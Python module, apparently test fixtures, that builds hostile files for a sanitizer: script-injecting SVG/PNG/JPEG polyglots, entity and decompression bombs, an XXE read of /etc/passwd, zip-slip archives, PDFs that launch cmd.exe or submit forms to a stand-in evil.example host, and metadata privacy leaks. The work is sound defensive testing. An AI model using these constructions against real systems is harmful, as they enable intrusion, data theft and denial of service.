"""Makers of hostile files: what hides something, runs somewhere or is too much. All names in them are invented."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import openpyxl
import pypdf
from PIL import Image, PngImagePlugin
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

NAME = "Lotte Voorbeeld"
SCRIPT = b"<script>alert(1)</script>"
_SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><rect width='9' height='9'/></svg>"
Maker = Callable[[str], "bytes | str"]
MAKERS: dict[str, Maker] = {}


def maker(function: Maker) -> Maker:
    """Enter a maker by its name."""
    MAKERS[function.__name__] = function
    return function


def make(name: str, id: str) -> bytes | str:
    """A hostile file, for the case of this id."""
    return MAKERS[name](id)


def _host(id: str) -> str:
    return f"https://{id}.evil.example"


# Drawings


@maker
def svg_iso_2022_jp(id: str) -> bytes:
    # Within ESC ( J … ESC ( B a reader of ASCII and one of ISO-2022-JP see different marks.
    return (
        b"<?xml version='1.0' encoding='ISO-2022-JP'?><svg xmlns='http://www.w3.org/2000/svg'>"
        b"<\x1b(Bscript\x1b(B>alert(1)</\x1b(Bscript\x1b(B></svg>"
    )


@maker
def svg_utf_16(id: str) -> bytes:
    return _SVG.encode("utf-16")


@maker
def svg_utf_7(id: str) -> bytes:
    return b"<?xml version='1.0' encoding='UTF-7'?>" + _SVG.replace("onload", "+AG8-nload").encode()


@maker
def svg_utf_32(id: str) -> bytes:
    return _SVG.encode("utf-32")


@maker
def svg_laughs(id: str) -> bytes:
    entities = "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 10))
    return f"<!DOCTYPE svg [<!ENTITY l0 'ha'>{entities}]><svg xmlns='http://www.w3.org/2000/svg'><text>&l9;</text></svg>".encode()


# Pictures


def _picture(format: str, size: tuple[int, int] = (48, 48), **options: Any) -> bytes:
    stream = io.BytesIO()
    Image.radial_gradient("L").resize(size).convert("RGB").save(stream, format, **options)
    return stream.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


@maker
def png_polyglot(id: str) -> bytes:
    raw = _picture("PNG")
    return raw[:33] + _chunk(b"tEXt", b"Comment\0" + SCRIPT) + raw[33:] + SCRIPT


@maker
def png_texts(id: str) -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", NAME)
    info.add_text("Comment", "geheime notitie", zip=True)
    info.add_itxt("XML:com.adobe.xmp", f"<x:xmpmeta>{NAME} lotte@example.org</x:xmpmeta>")
    return _picture("PNG", pnginfo=info)


@maker
def png_behind_end(id: str) -> bytes:
    return _picture("PNG") + b"\n" + NAME.encode()


@maker
def png_bomb(id: str) -> bytes:
    head = struct.pack(">IIBBBBB", 20_000, 20_000, 1, 0, 0, 0, 0)
    rows = zlib.compress(bytes(2_501) * 20_000, 9)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", rows) + _chunk(b"IEND", b"")


@maker
def png_cut(id: str) -> bytes:
    return _picture("PNG")[:300]


def _exif(gps: bool) -> Image.Exif:
    exif = Image.Exif()
    exif[0x013B] = NAME  # Artist
    exif[0x010E] = f"{NAME}, 12 jaar"  # ImageDescription
    if gps:
        exif.get_ifd(0x8825).update({1: "N", 2: (52.0, 22.0, 12.7), 3: "E", 4: (4.0, 53.0, 43.0), 29: "2026:03:04"})
    return exif


@maker
def jpeg_gps(id: str) -> bytes:
    return _picture("JPEG", exif=_exif(gps=True).tobytes())


def _segment(marker: int, data: bytes) -> bytes:
    return bytes((0xFF, marker)) + struct.pack(">H", len(data) + 2) + data


def _with_segment(marker: int, data: bytes) -> bytes:
    raw = _picture("JPEG")
    return raw[:2] + _segment(marker, data) + raw[2:]


@maker
def jpeg_xmp(id: str) -> bytes:
    packet = f"<x:xmpmeta xmlns:x='adobe:ns:meta/'><dc:creator>{NAME}</dc:creator></x:xmpmeta>"
    return _with_segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + packet.encode())


@maker
def jpeg_iptc(id: str) -> bytes:
    field = b"\x1c\x02\x50" + struct.pack(">H", len(NAME)) + NAME.encode()
    return _with_segment(0xED, b"Photoshop 3.0\x008BIM\x04\x04\0\0" + struct.pack(">I", len(field)) + field)


@maker
def jpeg_comment(id: str) -> bytes:
    return _with_segment(0xFE, NAME.encode())


@maker
def jpeg_thumbnail(id: str) -> bytes:
    return _with_segment(0xE2, b"MPF\0WegGesnedenGezicht")


@maker
def jpeg_html_behind(id: str) -> bytes:
    return _with_segment(0xFE, SCRIPT) + SCRIPT


@maker
def jpeg_with_zip(id: str) -> bytes:
    return _picture("JPEG") + b"<?php __HALT_COMPILER(); ?>" + zip_slip(id)  # type: ignore[operator]


@maker
def webp_exif(id: str) -> bytes:
    return _picture("WEBP", exif=_exif(gps=True).tobytes())


@maker
def gif_comment(id: str) -> bytes:
    return _picture("GIF", comment=f"{NAME} */alert(1)/*".encode())


@maker
def gif_bomb(id: str) -> bytes:
    raw = bytearray(_picture("GIF"))
    raw[6:10] = struct.pack("<HH", 65_535, 65_535)
    return bytes(raw)


@maker
def tiff_photo(id: str) -> bytes:
    return _picture("TIFF")


@maker
def ico_file(id: str) -> bytes:
    return _picture("ICO")


# PDF files


def _pdf(change: Callable[[pypdf.PdfWriter], None]) -> bytes:
    writer = pypdf.PdfWriter()
    writer.add_blank_page(200, 200)
    change(writer)
    stream = io.BytesIO()
    writer.write(stream)
    return stream.getvalue()


def _action(kind: str, **values: Any) -> DictionaryObject:
    entries = {f"/{key}": value for key, value in values.items()}
    return DictionaryObject({NameObject("/S"): NameObject(kind), **{NameObject(k): v for k, v in entries.items()}})


@maker
def pdf_script(id: str) -> bytes:
    def change(writer: pypdf.PdfWriter) -> None:
        writer.root_object[NameObject("/OpenAction")] = _action("/JavaScript", JS=TextStringObject("app.alert(1)"))

    return _pdf(change)


@maker
def pdf_open_action(id: str) -> bytes:
    def change(writer: pypdf.PdfWriter) -> None:
        writer.root_object[NameObject("/OpenAction")] = _action("/URI", URI=TextStringObject(_host(id)))

    return _pdf(change)


@maker
def pdf_launch(id: str) -> bytes:
    def change(writer: pypdf.PdfWriter) -> None:
        writer.root_object[NameObject("/OpenAction")] = _action("/Launch", F=TextStringObject("cmd.exe"))

    return _pdf(change)


@maker
def pdf_attachment(id: str) -> bytes:
    return _pdf(lambda writer: (writer.add_attachment("lijst.csv", NAME.encode()), None)[1])


@maker
def pdf_author(id: str) -> bytes:
    return _pdf(lambda writer: writer.add_metadata({"/Author": NAME, "/Title": "Verslag"}))


@maker
def pdf_submit_form(id: str) -> bytes:
    def change(writer: pypdf.PdfWriter) -> None:
        page = writer.pages[0]
        widget = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Widget"),
                NameObject("/FT"): NameObject("/Btn"),
                NameObject("/T"): TextStringObject("x"),
                NameObject("/A"): _action("/SubmitForm", F=TextStringObject(_host(id))),
            }
        )
        reference = writer._add_object(widget)
        page[NameObject("/Annots")] = ArrayObject([reference])
        writer.root_object[NameObject("/AcroForm")] = DictionaryObject(
            {NameObject("/Fields"): ArrayObject([reference])}
        )

    return _pdf(change)


# Packages of Office


_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _package(parts: dict[str, str | bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return stream.getvalue()


def _docx(body: str = "<w:p><w:r><w:t>Gewone tekst.</w:t></w:r></w:p>", **more: str) -> bytes:
    names = {"comments": "word/comments.xml", "core": "docProps/core.xml", "rels": "word/_rels/document.xml.rels"}
    types = (
        "<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'>"
        "<Default Extension='rels' ContentType='application/vnd.openxmlformats-package.relationships+xml'/>"
        "<Default Extension='xml' ContentType='application/xml'/><Override PartName='/word/document.xml' "
        "ContentType='application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'/></Types>"
    )
    start = f"<Relationships xmlns='{_RELATIONS}'><Relationship Id='r1' Type='{_OFFICE}/officeDocument' Target='word/document.xml'/></Relationships>"
    doctype = more.pop("doctype", "")
    return _package(
        {
            "[Content_Types].xml": types,
            "_rels/.rels": start,
            "word/document.xml": f"<?xml version='1.0'?>{doctype}<w:document xmlns:w='{_WORD}'><w:body>{body}</w:body></w:document>",
            **{names[key]: text for key, text in more.items()},
        }
    )


@maker
def docx_comments(id: str) -> bytes:
    comment = f"<w:comments xmlns:w='{_WORD}'><w:comment w:id='0' w:author='{NAME}'><w:p><w:r><w:t>Niet delen.</w:t></w:r></w:p></w:comment></w:comments>"
    rels = f"<Relationships xmlns='{_RELATIONS}'><Relationship Id='r1' Type='{_OFFICE}/comments' Target='comments.xml'/></Relationships>"
    return _docx(comments=comment, rels=rels)


@maker
def docx_deleted(id: str) -> bytes:
    return _docx(
        f"<w:p><w:r><w:t>Tekst.</w:t></w:r><w:del w:id='1' w:author='x'><w:r><w:delText>{NAME}</w:delText></w:r></w:del></w:p>"
    )


@maker
def docx_author(id: str) -> bytes:
    core = (
        "<cp:coreProperties xmlns:cp='http://schemas.openxmlformats.org/package/2006/metadata/core-properties' "
        f"xmlns:dc='http://purl.org/dc/elements/1.1/'><dc:creator>{NAME}</dc:creator></cp:coreProperties>"
    )
    return _docx(core=core)


@maker
def docx_template_remote(id: str) -> bytes:
    rels = f"<Relationships xmlns='{_RELATIONS}'><Relationship Id='r1' Type='{_OFFICE}/attachedTemplate' Target='{_host(id)}/x.dotm' TargetMode='External'/></Relationships>"
    return _docx(rels=rels)


@maker
def docx_bomb(id: str) -> bytes:
    return _docx("<w:p><w:r><w:t>" + "a" * 120_000_000 + "</w:t></w:r></w:p>")


@maker
def docx_external_entity(id: str) -> bytes:
    return _docx(
        "<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", doctype="<!DOCTYPE x [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"
    )


@maker
def docx_polyglot(id: str) -> bytes:
    return b"<!DOCTYPE html>" + SCRIPT + _docx()


def _workbook(change: Callable[[openpyxl.Workbook], None]) -> bytes:
    book = openpyxl.Workbook()
    assert book.active is not None
    book.active["A1"] = "Gewoon"
    change(book)
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def _hide(state: str) -> Callable[[openpyxl.Workbook], None]:
    def change(book: openpyxl.Workbook) -> None:
        sheet = book.create_sheet("Namen")
        sheet["A1"] = NAME
        sheet.sheet_state = state

    return change


@maker
def xlsx_hidden_sheet(id: str) -> bytes:
    return _workbook(_hide("hidden"))


@maker
def xlsx_very_hidden(id: str) -> bytes:
    return _workbook(_hide("veryHidden"))


@maker
def xlsx_hidden_column(id: str) -> bytes:
    def change(book: openpyxl.Workbook) -> None:
        sheet = book.active
        assert sheet is not None
        sheet["B1"] = NAME
        sheet.column_dimensions["B"].hidden = True

    return _workbook(change)


@maker
def xlsx_cached_outside(id: str) -> bytes:
    book = _workbook(lambda _: None)
    with zipfile.ZipFile(io.BytesIO(book)) as package:
        parts: dict[str, str | bytes] = {name: package.read(name) for name in package.namelist()}
    parts["xl/externalLinks/externalLink1.xml"] = f"<externalLink><v>{NAME}</v></externalLink>"
    return _package(parts)


@maker
def pptx_notes(id: str) -> bytes:
    return _package({"[Content_Types].xml": "<Types/>", "ppt/notesSlides/notesSlide1.xml": f"<a>{NAME}</a>"})


@maker
def odt_annotation(id: str) -> bytes:
    content = f"<office:document-content><office:annotation><dc:creator>{NAME}</dc:creator></office:annotation></office:document-content>"
    return _package({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": content})


@maker
def zip_slip(id: str) -> bytes:
    return _package({"../../buiten.txt": "x"})


@maker
def mp4_location(id: str) -> bytes:
    place = b"\xa9xyz" + struct.pack(">HH", 17, 0x15C7) + b"+52.3702+004.8952/"
    return struct.pack(">I", 20) + b"ftypisom\0\0\0\0isom" + struct.pack(">I", len(place) + 4) + place


@maker
def fifo(id: str) -> str:
    return "|"
